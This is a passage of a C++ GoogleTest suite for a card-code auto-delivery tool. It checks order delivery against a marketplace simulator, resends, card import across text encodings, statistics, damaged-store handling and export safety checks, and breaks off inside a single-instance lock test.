// The torvane program as a seller runs it: run --once against market-sim, the card commands,
// and the refusals that keep a code from going out twice.
#include <gtest/gtest.h>

#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <map>
#include <thread>
#include <set>

#include "platform/instance_lock.h"
#include "base/settings.h"
#include "base/files.h"
#include "base/deployment.h"
#include "base/ini.h"
#include "notify/password.h"
#include "store/record_store.h"
#include "store/sales_stats.h"
#include "support/process.h"
#include "support/raw_http_server.h"
#include "support/shop.h"
#include "support/store_faults.h"
#include "support/temp_dir.h"
#include "base/text.h"

using namespace torvane;
using namespace torvane::test;
using namespace std::chrono_literals;

namespace {

Settings MailDelivery() {
  Settings s;
  s.scanPeriod = "30秒";
  s.deliverByMail = true;
  s.deliveredSoftware = true;
  s.outOfStockSoftware = true;
  return s;
}

// UTF-8 form of a GBK literal, to compare with the program's terminal output.
std::string U(const std::string& gbk) { return GbkToUtf8(gbk); }

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::size_t pos = 0;
  while (pos < text.size()) {
    auto nl = text.find('\n', pos);
    if (nl == std::string::npos) nl = text.size();
    lines.push_back(text.substr(pos, nl - pos));
    pos = nl + 1;
  }
  return lines;
}

}  // namespace

TEST(RunOnce, DeliversWholeOrdersByMailAndLeavesTheRestForLater) {
  Shop shop(MailDelivery());
  ASSERT_TRUE(shop.ok()) << shop.error();
  ASSERT_TRUE(shop.LogIn());
  ASSERT_TRUE(shop.AddCards("点卡A", {{"A1", "a-secret-1"}, {"A2", "a-secret-2"}, {"A3", "a-secret-3"}}));
  ASSERT_TRUE(shop.AddCards("点卡B", {{"B1", "b-secret-1"}, {"B2", "b-secret-2"}}));
  ASSERT_TRUE(shop.sim().AddOrder("9001", "点卡A", "1", "buyer1", "请发到 one@example.com 谢谢"));
  ASSERT_TRUE(shop.sim().AddOrder("9002", "点卡B", "2", "buyer2", "two@example.com"));
  ASSERT_TRUE(shop.sim().AddOrder("9003", "没有的宝贝", "1", "buyer3", "three@example.com"));
  ASSERT_TRUE(shop.sim().AddOrder("9004", "点卡A", "5", "buyer4", "four@example.com"));

  auto run = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  ASSERT_EQ(run.exitCode, 0) << run.err;
  EXPECT_NE(run.out.find(U("发现已付款订单 [4]个")), std::string::npos) << run.out;
  EXPECT_NE(run.out.find(U("不在发货序列 自动跳过")), std::string::npos);
  EXPECT_NE(run.out.find(U("宝贝名称: 点卡A库存不足")), std::string::npos);
  EXPECT_NE(run.out.find(U("程序退出完成")), std::string::npos);

  EXPECT_EQ(shop.sim().OrderStatus("9001"), "shipped");
  EXPECT_EQ(shop.sim().OrderStatus("9002"), "shipped");
  EXPECT_EQ(shop.sim().OrderStatus("9003"), "paid");
  EXPECT_EQ(shop.sim().OrderStatus("9004"), "paid");  // whole orders only: nothing taken for it

  // Each buyer got exactly the codes of their own order, by mail to the address in the message.
  std::map<std::string, std::string> mailTo;
  for (const auto& m : shop.mail()->Messages()) {
    ASSERT_EQ(m.recipients.size(), 1u);
    mailTo[m.recipients[0]] += m.data;
  }
  ASSERT_EQ(mailTo.size(), 2u);
  EXPECT_TRUE(mailTo.count("one@example.com"));
  EXPECT_TRUE(mailTo.count("two@example.com"));

  auto sent = RunProcess(TorvaneBinary(), {"sent", "list", "--order", "9002"}, shop.dataDir(), 30s);
  ASSERT_EQ(sent.exitCode, 0) << sent.err;
  auto sentLines = Lines(sent.out);
  ASSERT_EQ(sentLines.size(), 2u) << sent.out;
  EXPECT_EQ(sentLines[0].substr(0, sentLines[0].find('\t')), U("点卡B"));
  EXPECT_NE(sentLines[0].find("\tB1\tb-secret-1\t"), std::string::npos);
  EXPECT_NE(sentLines[0].find(U("邮件发送")), std::string::npos);
  EXPECT_NE(sentLines[1].find("\tB2\tb-secret-2\t"), std::string::npos);
  // Last, when each code was handed over ("YYYY-MM-DD HH:MM:SS") and how.
  for (const std::string& line : sentLines) {
    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 10) << line;
    const std::size_t channelAt = line.rfind('\t');
    EXPECT_EQ(line.substr(channelAt + 1), U("邮件")) << line;
    EXPECT_EQ(channelAt - line.rfind('\t', channelAt - 1) - 1, 19u) << line;
  }

  auto left = RunProcess(TorvaneBinary(), {"cards", "list", "--item", U("点卡A")}, shop.dataDir(), 30s);
  ASSERT_EQ(left.exitCode, 0);
  auto leftLines = Lines(left.out);
  ASSERT_EQ(leftLines.size(), 2u) << left.out;  // A1 went to order 9001, in store order
  EXPECT_NE(leftLines[0].find("\tA2\t"), std::string::npos);

  // A second pass finds the delivered orders in the blacklist and touches no code again.
  auto again = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  ASSERT_EQ(again.exitCode, 0) << again.err;
  EXPECT_EQ(shop.mail()->Messages().size(), 2u);
  EXPECT_EQ(Lines(RunProcess(TorvaneBinary(), {"sent", "list"}, shop.dataDir(), 30s).out).size(), 3u);

  // A list page of another make with no order, known only by its title, is an empty list.
  RawHttpServer other;
  other.SetHandler([](const RecordedRequest&) {
    return RawReply::Http(200, "<html><head><title>已卖出的宝贝 - 等待发货</title></head><body><table><tr><td>"
                               "没有符合条件的宝贝</td></tr></table></body></html>");
  });
  IniFile ini;
  ASSERT_TRUE(ini.Load(DeploymentPath(shop.configDir())));
  ini.Set("市场", "物流主机", other.BaseUrl());
  ASSERT_TRUE(ini.Save(DeploymentPath(shop.configDir())));
  auto empty = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  EXPECT_EQ(empty.exitCode, 0) << empty.err;
  EXPECT_NE(empty.out.find(U("未发现已付款订单")), std::string::npos) << empty.out;
  EXPECT_EQ(other.RequestCount(), 1u);
}

TEST(SentResend, ARefusedMailGoesOutAgainWithTheSameCodesAndTheOrderShips) {
  Shop shop(MailDelivery());
  ASSERT_TRUE(shop.ok()) << shop.error();
  ASSERT_TRUE(shop.LogIn());
  ASSERT_TRUE(shop.AddCards("点卡A", {{"A1", "a-secret-1"}, {"A2", "a-secret-2"}}));
  ASSERT_TRUE(shop.sim().AddOrder("9701", "点卡A", "1", "buyer1", "one@example.com"));
  ASSERT_TRUE(shop.mail()->SetReplies({"550 5.1.1 No such user", "", ""}));
  auto run = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  ASSERT_EQ(run.exitCode, 0) << run.err;
  EXPECT_NE(run.out.find(U("订单编号:[9701] 卡密发送失败 请手动处理: 邮件服务器拒收: 550 5.1.1 No such user")),
            std::string::npos)
      << run.out;
  EXPECT_EQ(shop.sim().OrderStatus("9701"), "paid");

  ASSERT_TRUE(shop.mail()->SetReplies({}));
  const std::vector<std::string> resend = {"sent", "resend", "--order", "9701", "--config-dir",
                                           shop.configDir().string()};
  auto again = RunProcess(TorvaneBinary(), resend, shop.dataDir(), 60s);
  ASSERT_EQ(again.exitCode, 0) << again.out << again.err;
  EXPECT_NE(again.out.find(U("订单编号:[9701] 已重新发送原卡密 [1]张 通过:[邮件发送]")), std::string::npos) << again.out;
  const auto mails = shop.mail()->Messages();
  ASSERT_EQ(mails.size(), 1u);
  EXPECT_EQ(mails[0].recipients, std::vector<std::string>{"one@example.com"});
  EXPECT_EQ(shop.sim().OrderStatus("9701"), "shipped");
  auto sent = RunProcess(TorvaneBinary(), {"sent", "list", "--order", "9701"}, shop.dataDir(), 30s);
  ASSERT_EQ(Lines(sent.out).size(), 1u) << sent.out;
  EXPECT_NE(sent.out.find("\tA1\ta-secret-1\t"), std::string::npos);
  EXPECT_NE(sent.out.find(U("邮件发送")), std::string::npos);
  EXPECT_NE(sent.out.find(U("\t重新发送\n")), std::string::npos) << sent.out;
  EXPECT_NE(ReadBytes(shop.dataDir() / u8"历史记录.log").find("已重新发送原卡密"), std::string::npos);

  auto unknown = RunProcess(TorvaneBinary(), {"sent", "resend", "--order", "1", "--config-dir",
                                              shop.configDir().string()}, shop.dataDir(), 60s);
  EXPECT_EQ(unknown.exitCode, 1);
  EXPECT_NE(unknown.out.find(U("订单编号:[1] 没有发货记录")), std::string::npos) << unknown.out;

  // Mailed, but the marketplace refused the consign form: the order is still to ship.
  ASSERT_TRUE(shop.sim().AddOrder("9702", "点卡A", "1", "buyer2", "two@example.com"));
  SimFaults consign;
  consign.status500 = true;
  consign.paths = {"/user/consign.htm"};
  ASSERT_TRUE(shop.sim().SetFaults(consign));
  ASSERT_EQ(RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s).exitCode, 0);
  ASSERT_EQ(shop.sim().OrderStatus("9702"), "paid");
  ASSERT_EQ(shop.mail()->Messages().size(), 2u);
  // Chat is the method now; the order first went by mail, so it goes by mail again, to the buyer's address.
  Settings byChat = MailDelivery();
  byChat.deliverByMail = false;
  byChat.deliverByChat = true;
  ASSERT_TRUE(SaveSettings(SettingsPath(shop.configDir()), byChat));
  // Each row: the faults during the resend, --to, exit status, a line it prints, the order's state after.
  struct Row {
    const char* name;
    std::vector<std::string> faultPaths;
    std::string to;
    int exitCode;
    std::string line;
    std::string status;
  };
  const std::vector<Row> rows = {
      {"still not shipped", {"/user/consign.htm"}, "", 1, "订单编号:[9702] 标记发货失败 请手动发货", "paid"},
      {"list unreadable", {"/user/order_list_new.htm"}, "fix@example.com", 1,
       "订单编号:[9702] 未能确认订单是否已发货 请手动检查", "paid"},
      {"shipped now", {}, "", 0, "订单编号:[9702] 已标记发货", "shipped"},
      {"no longer listed", {}, "again@example.com", 0, "订单编号:[9702] 已重新发送原卡密 [1]张 通过:[邮件发送]", "shipped"},
  };
  const std::vector<std::string> recipients = {"two@example.com", "fix@example.com", "two@example.com",
                                               "again@example.com"};
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const Row& row = rows[i];
    SCOPED_TRACE(row.name);
    SimFaults fault;
    fault.status500 = !row.faultPaths.empty();
    fault.paths = row.faultPaths;
    ASSERT_TRUE(shop.sim().SetFaults(fault));
    std::vector<std::string> args = {"sent", "resend", "--order", "9702", "--config-dir", shop.configDir().string()};
    if (!row.to.empty()) args.insert(args.end(), {"--to", row.to});
    auto r = RunProcess(TorvaneBinary(), args, shop.dataDir(), 60s);
    EXPECT_EQ(r.exitCode, row.exitCode) << r.out << r.err;
    EXPECT_NE(r.out.find(U(row.line)), std::string::npos) << r.out;
    EXPECT_EQ(shop.sim().OrderStatus("9702"), row.status);
    const auto sentMails = shop.mail()->Messages();
    ASSERT_EQ(sentMails.size(), 3 + i);
    EXPECT_EQ(sentMails.back().recipients, std::vector<std::string>{recipients[i]});
  }
  ASSERT_TRUE(SaveSettings(SettingsPath(shop.configDir()), MailDelivery()));

  // An order list that cannot be read is a failed run, not an empty list.
  SimFaults fault;
  fault.status500 = true;
  fault.paths = {"/user/order_list_new.htm"};
  ASSERT_TRUE(shop.sim().SetFaults(fault));
  auto broken = RunProcess(TorvaneBinary(), shop.RunArgs(true), shop.dataDir(), 120s);
  EXPECT_EQ(broken.exitCode, 1) << broken.err;
  EXPECT_NE(broken.out.find(U("无法读取已付款订单: 服务器返回 500")), std::string::npos) << broken.out;
  EXPECT_EQ(broken.out.find(U("未发现已付款订单")), std::string::npos);
}

TEST(CardsCommands, ImportReadsUtf8AndGbkFilesAndRefusesFullWidthCommas) {
  TempDir dir;
  WriteBytes(dir / "utf8.txt", "\xEF\xBB\xBF" + U("卡号1,密码1") + "\r\n\r\nN2,S2\nN3\n");
  WriteBytes(dir / "gbk.txt", std::string("卡号4,密码4") + "\r\n");
  WriteBytes(dir / "bad.txt", std::string("N5，S5\r\n"));

  auto a = RunProcess(TorvaneBinary(), {"cards", "import", "utf8.txt", "--item", U("宝贝"), "--note", U("说明")},
                      dir.path(), 30s);
  ASSERT_EQ(a.exitCode, 0) << a.err;
  auto b = RunProcess(TorvaneBinary(), {"cards", "import", "gbk.txt", "--item", U("宝贝")}, dir.path(), 30s);
  ASSERT_EQ(b.exitCode, 0) << b.err;
  auto c = RunProcess(TorvaneBinary(), {"cards", "import", "bad.txt", "--item", U("宝贝")}, dir.path(), 30s);
  EXPECT_EQ(c.exitCode, 1);
  EXPECT_NE(c.err.find(U("逗号填写错误")), std::string::npos);

  // Listing and export only read the stores.
  const std::string inventory = ReadBytes(dir / u8"库存卡密.edb");
  const std::string sent = ReadBytes(dir / u8"已发卡密.edb");
  auto list = RunProcess(TorvaneBinary(), {"cards", "list"}, dir.path(), 30s);
  ASSERT_EQ(list.exitCode, 0);
  auto lines = Lines(list.out);
  ASSERT_EQ(lines.size(), 4u) << list.out;
  EXPECT_EQ(lines[0], U("宝贝\t卡号1\t密码1\t说明"));
  EXPECT_EQ(lines[1], U("宝贝\tN2\tS2\t说明"));
  EXPECT_EQ(lines[2], U("宝贝\tN3\t空\t说明"));
  EXPECT_EQ(lines[3], U("宝贝\t卡号4\t密码4\t"));

  auto exported = RunProcess(TorvaneBinary(), {"sent", "export", "out.csv"}, dir.path(), 30s);
  ASSERT_EQ(exported.exitCode, 0) << exported.err;
  std::string csv = ReadBytes(dir / "out.csv");
  EXPECT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
  EXPECT_NE(csv.find(U("\"宝贝名称\",\"订单编号\"")), std::string::npos);
  EXPECT_NE(csv.find(U("\"发货时间\",\"交付时间\",\"交付渠道\"\r\n")), std::string::npos) << csv;
  EXPECT_EQ(RunProcess(TorvaneBinary(), {"sent", "list"}, dir.path(), 30s).exitCode, 0);
  EXPECT_TRUE(ReadBytes(dir / u8"库存卡密.edb") == inventory) << "the inventory was written";
  EXPECT_TRUE(ReadBytes(dir / u8"已发卡密.edb") == sent) << "the sent store was written";
}

TEST(ItemsCommands, SetChangesOnlyWhatIsGivenAndListShowsEveryItem) {
  TempDir dir;
  WriteBytes(dir / "cards.txt", "N1,S1\nN2,S2\n");
  WriteBytes(dir / u8"宝贝名称.txt", "月卡\r\n宝贝\r\n");
  ASSERT_EQ(RunProcess(TorvaneBinary(), {"cards", "import", "cards.txt", "--item", U("宝贝")}, dir.path(), 30s).exitCode, 0);
  ASSERT_EQ(RunProcess(TorvaneBinary(), {"cards", "import", "cards.txt", "--item", "Z", "--allow-duplicates"}, dir.path(),
                       30s).exitCode, 0);
  struct Row {
    std::vector<std::string> args;
    int exitCode;
    std::string shows;  // on standard output (exit status 0), else on standard error
  };
  const std::vector<Row> rows = {
      {{U("宝贝"), "--low-stock", "5"}, 0, U("宝贝 循环=否 库存预警=5")},
      {{U("宝贝"), "--reusable", "YES"}, 0, U("宝贝 循环=是 库存预警=5")},
      {{U("游戏"), "--reusable", "yes", "--low-stock", "0"}, 0, U("游戏 循环=是 库存预警=0")},
      {{U("游戏"), "--low-stock", "none"}, 0, U("游戏 循环=是 库存预警=无")},
      {{"a]b", "--reusable", "yes"}, 1, U("宝贝名称含有 ] , 无法单独设置")},
      {{" a", "--reusable", "yes"}, 1, U("宝贝名称首尾有空格")},
  };
  for (const Row& row : rows) {
    std::vector<std::string> args = {"items", "set"};
    args.insert(args.end(), row.args.begin(), row.args.end());
    SCOPED_TRACE(row.args.front());
    auto r = RunProcess(TorvaneBinary(), args, dir.path(), 30s);
    EXPECT_EQ(r.exitCode, row.exitCode) << r.err;
    EXPECT_NE((row.exitCode == 0 ? r.out : r.err).find(row.shows), std::string::npos) << r.out << r.err;
  }
  EXPECT_NE(ReadBytes(dir / u8"宝贝设置.ini").find("[宝贝]\r\n循环=是\r\n库存预警=5"), std::string::npos);
  auto list = RunProcess(TorvaneBinary(), {"items", "list"}, dir.path(), 30s);
  ASSERT_EQ(list.exitCode, 0) << list.err;
  EXPECT_EQ(Lines(list.out), (std::vector<std::string>{U("月卡\t0\t\t否"), U("宝贝\t2\t5\t是"), U("游戏\t0\t\t是"),
                                                        "Z\t2\t\t" + U("否")}));
}

// torvane stats counts each item's codes by the local day of their hand-over: records on several days,
// records from before the hand-over time was kept, a record marked for deletion; stock and thresholds.
TEST(StatsCommand, CountsMatchTheRecordsAndOnlyReadTheStores) {
  TempDir dir;
  using namespace std::chrono;
  const sys_days today{LocalDay(std::time(nullptr))};
  auto at = [&](int daysBefore, const char* time) {
    return DayText(year_month_day{today - days{daysBefore}}) + " " + time;
  };
  {
    StoreError error;
    auto stores = CardStores::Open(dir.path(), &error);
    ASSERT_TRUE(stores) << error.message;
    int order = 0;
    auto sent = [&](const std::string& item, const std::string& handedOver) {
      return std::vector<std::string>{item, std::to_string(++order), "b", "1", "c" + std::to_string(order), "s", "n",
                                      "旺旺发送", "T", handedOver, handedOver.empty() ? "" : "旺旺"};
    };
    std::vector<std::vector<std::string>> records = {
        sent("点卡A", at(0, "00:00:01")), sent("点卡A", at(0, "23:59:59")), sent("点卡A", at(3, "12:00:00")),
        sent("点卡A", at(10, "08:00:00")), sent("点卡A", at(45, "08:00:00")), sent("点卡A", ""),
        sent("点卡A", ""),  sent("点卡B", at(6, "00:00:00")), sent("点卡B", at(7, "23:59:59")),
        sent("点卡A", at(0, "09:00:00"))};  // marked below
    ASSERT_EQ(stores->Sent().AppendMany(records), records.size());
    ASSERT_TRUE(stores->Sent().GoToRecordNumber(static_cast<RecordNumber>(records.size())));
    ASSERT_TRUE(stores->Sent().MarkDeleted());
    ASSERT_EQ(stores->Inventory().AppendMany({{"点卡B", "k1", "s", "n"}, {"点卡B", "k2", "s", "n"}}), 2u);
  }
  WriteBytes(dir / u8"宝贝设置.ini", "[点卡B]\r\n库存预警=2\r\n");
  const std::string inventory = ReadBytes(dir / u8"库存卡密.edb");
  const std::string sentStore = ReadBytes(dir / u8"已发卡密.edb");

  auto month = RunProcess(TorvaneBinary(), {"stats"}, dir.path(), 30s);
  ASSERT_EQ(month.exitCode, 0) << month.err;
  EXPECT_EQ(month.out, U("宝贝名称\t库存\t库存预警\t今日\t7日\t30日\n点卡A\t0\t\t2\t3\t4\n点卡B\t2\t2\t0\t1\t2\n"));
  auto longer = RunProcess(TorvaneBinary(), {"stats", "--days", "60"}, dir.path(), 30s);
  ASSERT_EQ(longer.exitCode, 0) << longer.err;
  EXPECT_EQ(longer.out, U("宝贝名称\t库存\t库存预警\t今日\t7日\t60日\n点卡A\t0\t\t2\t3\t5\n点卡B\t2\t2\t0\t1\t2\n"));
  EXPECT_TRUE(ReadBytes(dir / u8"库存卡密.edb") == inventory) << "the inventory was written";
  EXPECT_TRUE(ReadBytes(dir / u8"已发卡密.edb") == sentStore) << "the sent store was written";
}

// A damaged store: every command that reads it exits 1 naming the file, and changes nothing,
// neither the stores nor an earlier export.
class DamagedStoreCommands : public ::testing::TestWithParam<bool> {};

TEST_P(DamagedStoreCommands, ExitOneNamingTheFileAndChangeNothing) {
  const std::filesystem::path name = GetParam() ? u8"库存卡密.edb" : u8"已发卡密.edb";
  TempDir dir;
  {
    StoreError error;
    auto stores = CardStores::Open(dir.path(), &error);
    ASSERT_TRUE(stores) << error.message;
    std::vector<std::vector<std::string>> cards, records;
    for (int i = 0; i < 3000; ++i) {
      cards.push_back({"I", "card-" + std::to_string(i), "secret", "n"});
      records.push_back({"I", std::to_string(i), "b", "1", "c" + std::to_string(i), "s", "n", "旺旺发送", "T"});
    }
    ASSERT_EQ(stores->Inventory().AppendMany(cards), cards.size());
    ASSERT_EQ(stores->Sent().AppendMany(records), records.size());
  }
  ASSERT_EQ(RunProcess(TorvaneBinary(), {"sent", "export", "good.csv"}, dir.path(), 30s).exitCode, 0);
  WriteBytes(dir / "new.txt", "N1,S1\r\n");
  DamagePage(dir / name, 2, PageDamage::kTailFlipped);
  const std::string export_ = ReadBytes(dir / "good.csv");
  const std::string inventory = ReadBytes(dir / u8"库存卡密.edb");
  const std::string sent = ReadBytes(dir / u8"已发卡密.edb");

  const std::vector<std::vector<std::string>> commands = {
      {"cards", "list"},
      {"sent", "list"},
      {"sent", "export", "good.csv"},
      {"cards", "import", "new.txt", "--item", "I"},
      {"stats", "--days", "7"},
      {"run", "--once", "--config-dir", dir.path().string()}};
  for (const auto& command : commands) {
    auto r = RunProcess(TorvaneBinary(), command, dir.path(), 30s);
    EXPECT_EQ(r.exitCode, 1) << command[0] << " " << command[1];
    EXPECT_NE(r.err.find(U(PathText(name))), std::string::npos) << r.err;
    EXPECT_EQ(r.out, "") << command[0] << " " << command[1];
  }
  EXPECT_TRUE(ReadBytes(dir / "good.csv") == export_) << "the earlier export was replaced";
  EXPECT_TRUE(ReadBytes(dir / u8"库存卡密.edb") == inventory) << "the inventory was written";
  EXPECT_TRUE(ReadBytes(dir / u8"已发卡密.edb") == sent) << "the sent store was written";
}

INSTANTIATE_TEST_SUITE_P(Stores, DamagedStoreCommands, ::testing::Bool(),
                         [](const ::testing::TestParamInfo<bool>& param) {
                           return std::string(param.param ? "Inventory" : "Sent");
                         });

// An export never replaces the program's own files, under any name, nor anything that is not a
// regular file; it writes through a link to a regular file.
TEST(SentExport, RefusesOwnFilesAndWhatIsNotARegularFile) {
  TempDir dir;
  WriteBytes(dir / "cards.txt", "N1,S1\r\n");
  ASSERT_EQ(RunProcess(TorvaneBinary(), {"cards", "import", "cards.txt", "--item", "I"}, dir.path(), 30s).exitCode, 0);
  for (const char8_t* own : {u8"宝贝名称.txt", u8"历史记录.log", u8"cookies.txt", u8"配置文件.ini", u8"部署配置.ini"}) {
    WriteBytes(dir / own, "keep\r\n");
  }
  ASSERT_EQ(::mkfifo((dir / "pipe").c_str(), 0644), 0);
  std::filesystem::create_directory(dir / "folder");
  std::filesystem::create_hard_link(dir / u8"库存卡密.edb", dir / "backup.edb");
  std::filesystem::create_symlink(u8"宝贝名称.txt", dir / "names-link.csv");
  auto snapshot = [&] {
    std::map<std::string, std::string> files;
    for (auto& entry : std::filesystem::directory_iterator(dir.path())) {
      auto status = std::filesystem::symlink_status(entry.path());
      files[entry.path().filename().string()] =
          std::to_string(static_cast<int>(status.type())) + ":" + (entry.is_regular_file() ? ReadBytes(entry.path()) : "");
    }
    return files;
  };
  const auto before = snapshot();

  for (const char* target : {"库存卡密.edb", "folder/../已发卡密.edb", "backup.edb", "names-link.csv", "临时黑名单.log",
                             "历史记录.log", "cookies.txt", "配置文件.ini", "部署配置.ini", "pipe", "folder", "./"}) {
    auto r = RunProcess(TorvaneBinary(), {"sent", "export", U(target)}, dir.path(), 30s);
    EXPECT_EQ(r.exitCode, 1) << target;
    EXPECT_NE(r.err.find(U("无法导出到")), std::string::npos) << target << ": " << r.err;
  }
  EXPECT_TRUE(snapshot() == before) << "a refused export changed the directory";

  // Wherever it lies, a file named like one of the program's own is refused, and so is anything in the
  // configuration directory the command is given.
  std::filesystem::create_directories(dir / "cfg");
  std::filesystem::create_directories(dir / "elsewhere");
  WriteBytes(dir / "cfg" / u8"部署配置.ini", "[市场]\r\n");
  std::filesystem::create_symlink(dir / "cfg" / u8"部署配置.ini", dir / "elsewhere" / "settings.csv");
  for (const char* target :
       {"cfg/部署配置.ini", "cfg/notes.csv", "elsewhere/settings.csv", "elsewhere/部署配置.ini", "elsewhere/COOKIES.TXT"}) {
    auto r = RunProcess(TorvaneBinary(), {"sent", "export", U(target), "--config-dir", "cfg"}, dir.path(), 30s);
    EXPECT_EQ(r.exitCode, 1) << target;
    EXPECT_NE(r.err.find(U("无法导出到")), std::string::npos) << target << ": " << r.err;
  }
  EXPECT_EQ(ReadBytes(dir / "cfg" / u8"部署配置.ini"), "[市场]\r\n");
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir / "cfg"), {}), 1);
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(dir / "elsewhere"), {}), 1);

  WriteBytes(dir / "real.csv", "old");
  std::filesystem::create_symlink("real.csv", dir / "report.csv");
  ASSERT_EQ(RunProcess(TorvaneBinary(), {"sent", "export", "report.csv"}, dir.path(), 30s).exitCode, 0);
  ASSERT_EQ(RunProcess(TorvaneBinary(), {"sent", "export", "report.csv", "--config-dir", "cfg"}, dir.path(), 30s).exitCode,
            0) << "an earlier export is replaced";
  EXPECT_TRUE(std::filesystem::is_symlink(dir / "report.csv"));
  EXPECT_EQ(ReadBytes(dir / "real.csv").substr(0, 3), "\xEF\xBB\xBF");
}

TEST(CardsCommands, ImportInputsGiveTheirCardsOrARefusalThatSaysWhy) {
  enum class Kind { kFile, kFifo, kDirectory, kMissing, kOverOneGigabyte };
  struct Row {
    std::string what;
    Kind kind;
    std::string bytes;                // the file's content (kFile)
    std::vector<std::string> extra;   // further arguments
    int exitCode;
    std::string err;                  // part of standard error (UTF-8), "" for none expected
    std::vector<std::string> listed;  // `cards list` afterwards (UTF-8)
    std::string before = {};          // a file imported first, when not empty
  };
  auto utf16le = [](const std::string& ascii) {
    std::string bytes = "\xFF\xFE";
    for (char c : ascii) bytes += {c, '\0'};
    return bytes;
  };
  std::string many, manyListed;
  std::vector<std::string> manyLines;
  for (int i = 0; i < 25; ++i) {
    many += "N" + std::to_string(i) + ",S" + std::to_string(i) + "\r\n";
    manyLines.push_back("Y\tN" + std::to_string(i) + "\tS" + std::to_string(i) + "\t");
  }
  std::vector<std::string> manyTwice = manyLines;
  manyTwice.insert(manyTwice.end(), manyLines.begin(), manyLines.end());
  const std::vector<std::string> none;
  const std::vector<Row> rows = {
      {"GBK euro sign", Kind::kFile, "B1,S1\x80\nB2,S2\nB3,S3\n", {}, 0, "",
       {U("Y\tB1\tS1\x80\t"), "Y\tB2\tS2\t", "Y\tB3\tS3\t"}},
      {"CR line ends", Kind::kFile, "A1,S1\rA2,S2\rA3,S3\r", {}, 0, "", {"Y\tA1\tS1\t", "Y\tA2\tS2\t", "Y\tA3\tS3\t"}},
      {"UTF-16 with mark", Kind::kFile, utf16le("U1,S1\r\nU2,S2\r\n"), {}, 0, "", {"Y\tU1\tS1\t", "Y\tU2\tS2\t"}},
      {"UTF-16 without mark", Kind::kFile, utf16le("V1,S1\n").substr(2), {}, 0, "", {"Y\tV1\tS1\t"}},
      {"UTF-8 with a bad byte", Kind::kFile, U("卡1,密1\n卡2,密") + "\xFF\n", {}, 1, U("第2行: 不是有效的UTF-8文本"), none},
      {"GBK with a run that is UTF-8", Kind::kFile, "点卡X1,Y1\r\n", {}, 0, "", {U("Y\t点卡X1\tY1\t")}},
      {"GBK read as UTF-8", Kind::kFile, "a,b\n卡1,密1\n", {"--encoding", "UTF-8"}, 1, U("第2行"), none},
      {"GBK named in capitals", Kind::kFile, "卡1,密1\n", {"--encoding", "GBK"}, 0, "", {U("Y\t卡1\t密1\t")}},
      {"emoji", Kind::kFile, "a,b\r\nc," + U("密") + "\xF0\x9F\x98\x80\r\n", {}, 1, "U+1F600", none},
      {"two commas", Kind::kFile, "a,b\nc,d,e\n", {}, 1, U("第2行: 有多个英文逗号"), none},
      {"blank card number", Kind::kFile, "a,b\n  ,d\n", {}, 1, U("第2行: 卡号为空"), none},
      {"note with a line break", Kind::kFile, "a,b\n", {"--note", "x\ny"}, 1, U("宝贝备注含有控制字符"), none},
      {"item GBK cannot hold", Kind::kFile, "a,b\n", {"--item", "\xF0\x9F\x98\x80"}, 1, "U+1F600", none},
      {"empty file", Kind::kFile, "", {}, 1, U("cards.txt 中没有卡密"), none},
      {"only line ends", Kind::kFile, "\r\n\r\n", {}, 1, U("cards.txt 中没有卡密"), none},
      {"FIFO", Kind::kFifo, "", {}, 1, U("cards.txt 不是普通文件"), none},
      {"directory", Kind::kDirectory, "", {}, 1, U("cards.txt 不是普通文件"), none},
      {"missing", Kind::kMissing, "", {}, 1, U("文件不存在: cards.txt"), none},
      {"over 1 GB", Kind::kOverOneGigabyte, "", {}, 1, U("cards.txt 太大"), none},
      {"duplicates", Kind::kFile, many, {}, 1, U("第20行 N19,S19 已在库存中"), manyLines, many},
      {"more than 20 duplicates", Kind::kFile, many, {}, 1, U("另有 5 张"), manyLines, many},
      {"duplicates allowed", Kind::kFile, many, {"--allow-duplicates"}, 0, U("其中 25 张是重复的卡密"), manyTwice, many},
  };
  for (const Row& row : rows) {
    SCOPED_TRACE(row.what);
    TempDir dir;
    if (!row.before.empty()) {
      WriteBytes(dir / "before.txt", row.before);
      ASSERT_EQ(RunProcess(TorvaneBinary(), {"cards", "import", "before.txt", "--item", "Y"}, dir.path(), 30s).exitCode, 0);
    }
    const auto file = dir / "cards.txt";
    switch (row.kind) {
      case Kind::kFile: WriteBytes(file, row.bytes); break;
      case Kind::kFifo: ASSERT_EQ(::mkfifo(file.c_str(), 0600), 0); break;
      case Kind::kDirectory: std::filesystem::create_directory(file); break;
      case Kind::kMissing: break;
      case Kind::kOverOneGigabyte:
        WriteBytes(file, "");
        std::filesystem::resize_file(file, (std::uintmax_t{1} << 30) + 1);  // sparse: takes no space
        break;
    }
    std::vector<std::string> args = {"cards", "import", "cards.txt"};
    args.insert(args.end(), row.extra.begin(), row.extra.end());
    if (std::find(args.begin(), args.end(), "--item") == args.end()) args.insert(args.end(), {"--item", "Y"});
    auto import = RunProcess(TorvaneBinary(), args, dir.path(), 30s);
    EXPECT_EQ(import.exitCode, row.exitCode) << import.err;
    EXPECT_TRUE(row.err.empty() || import.err.find(row.err) != std::string::npos) << import.err;
    auto list = RunProcess(TorvaneBinary(), {"cards", "list"}, dir.path(), 30s);
    EXPECT_EQ(Lines(list.out), row.listed);
    EXPECT_EQ(list.out.find('\0'), std::string::npos);
  }
}

TEST(RunRefusals, SecondCopyOnTheSameDataIsRefused) {
  TempDir dir;
  std::string message;
  auto lock = InstanceLock::Acquire(dir.path(), &message);
  ASSERT_TRUE(lock) << message;
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"run", "--once", "--config-dir", dir.path().string()},
        std::vector<std::string>{"sent", "resend", "--order", "1", "--config-dir", dir.path().string()}}) {
    auto run = RunProcess(TorvaneBinary(), args, dir.path(), 30s);
    EXPECT_EQ(run.exitCode, 1);
